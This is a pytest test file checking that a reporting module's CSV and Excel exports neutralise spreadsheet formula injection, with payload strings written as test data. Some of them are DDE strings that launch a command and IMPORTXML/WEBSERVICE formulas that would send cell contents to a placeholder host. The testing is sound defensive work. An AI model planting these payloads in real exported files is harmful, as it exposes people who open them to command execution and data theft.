"""Exports are inert: 200 payloads come back as the text they were, numbers as the numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from itertools import product
from pathlib import Path

import pytest
import python_calamine

from bursar.reports import inert_files
from bursar.reports.inert_files import Cell, csv_blocks, inert, write_workbook

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " =",
    "\t=",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    " -",
    "+-",
)
BODIES = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.invalid\",\"a\")", "SUM(A1:A9)", "2", "A1",
    "IMPORTXML(CONCAT(\"http://x.invalid?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"a\")",
    "WEBSERVICE(\"http://x.invalid\")", "1;=1+1", "x\";=1+1;\"", "1\n=1+1", "'=1+1", "",
)  # fmt: skip
PAYLOADS = [start + body for start, body in product(STARTS, BODIES)]
AMOUNTS: tuple[Cell, ...] = (
    Decimal("-1234.50"), Decimal("0.00"), Decimal("-0.01"), Decimal("99999999999.99"), -3, 0,
)  # fmt: skip
# What a spreadsheet program takes for the start of a formula, blanks aside.
RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def written(rows: list[list[Cell]]) -> str:
    header = [f"c{n}" for n in range(len(rows[0]))]
    return b"".join(csv_blocks(header, rows)).decode("utf-8-sig")


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_no_cell_of_a_csv_file_starts_a_formula(mark: str) -> None:
    """Whatever the program that opens it takes for the mark between cells."""
    text = written([[payload, Decimal("-1.50"), payload] for payload in PAYLOADS])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark):
        for cell in row:
            plain = cell.lstrip().lstrip('"').lstrip()
            assert plain == "-1.50" or not plain.startswith(RUNS), row
            assert mark != "," or not cell.startswith(("\t", "\r", "\n")), row


def test_a_csv_file_comes_back_as_it_was_but_for_the_apostrophes() -> None:
    text = written([[payload, *AMOUNTS] for payload in PAYLOADS])
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == [f"c{n}" for n in range(len(AMOUNTS) + 1)]
    assert [row[0] for row in rows] == [inert(payload) for payload in PAYLOADS]
    assert [row[0].replace("'", "") for row in rows] == [p.replace("'", "") for p in PAYLOADS]
    assert all(row[1:] == [str(amount) for amount in AMOUNTS] for row in rows)


def test_plain_text_is_left_alone() -> None:
    for plain in (
        "Research & Development",
        "a=b",
        "1-2",
        "O'Neil",
        "5",
        "",
        "É",
        "x@y.example",
        "a; b",
        "a\nb",
        "3 - 2; 4 + 5",
    ):
        assert inert(plain) == plain


def test_a_workbook_has_texts_and_numbers_and_no_formulas(tmp_path: Path) -> None:
    place = tmp_path / "made.xlsx"
    rows = [[payload, *AMOUNTS, None] for payload in PAYLOADS]
    write_workbook(place, [("Budgets", [f"c{n}" for n in range(8)], rows)])
    book = python_calamine.CalamineWorkbook.from_path(place)
    _, *found = book.get_sheet_by_name("Budgets").to_python()
    assert len(found) == len(PAYLOADS)
    for payload, row in zip(PAYLOADS, found, strict=True):
        assert isinstance(row[0], str)
        assert row[0].replace("\r\n", "\n").replace("\r", "\n") == payload.replace("\r", "\n")
        assert [round(Decimal(cell), 2) for cell in row[1:7]] == list(AMOUNTS)
    import zipfile

    with zipfile.ZipFile(place) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        assert [name for name in archive.namelist() if "externalLink" in name] == []


def test_an_amount_that_a_spreadsheet_would_round_is_written_as_text(tmp_path: Path) -> None:
    place = tmp_path / "made.xlsx"
    exact = Decimal("9999999999999999.99")
    write_workbook(place, [("Budgets", ["c"], [[exact], [-exact]])])
    rows = python_calamine.CalamineWorkbook.from_path(place).get_sheet_by_index(0).to_python()
    assert rows[1:] == [["9999999999999999.99"], ["-9999999999999999.99"]]


def test_a_long_text_is_cut_and_not_lost(tmp_path: Path) -> None:
    place = tmp_path / "made.xlsx"
    write_workbook(place, [("Budgets", ["c"], [["x" * 40_000]])])
    rows = python_calamine.CalamineWorkbook.from_path(place).get_sheet_by_index(0).to_python()
    assert len(rows[1][0]) == 32_767


def test_more_rows_than_a_sheet_holds_go_on_in_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inert_files, "_SHEET_ROWS", 2)
    for rows, sheets in ((3, [2, 1]), (4, [2, 2, 0])):
        place = tmp_path / f"made-{rows}.xlsx"
        write_workbook(place, [("Budgets", ["c"], ([n] for n in range(rows)))])
        book = python_calamine.CalamineWorkbook.from_path(place)
        assert [len(book.get_sheet_by_index(n).to_python()) - 1 for n in range(len(sheets))] == (
            sheets
        )


def test_a_large_file_comes_in_many_blocks() -> None:
    blocks = list(csv_blocks(["a"], (["x" * 100] for _ in range(10_000))))
    assert len(blocks) > 10
    assert max(map(len, blocks)) < 100_000
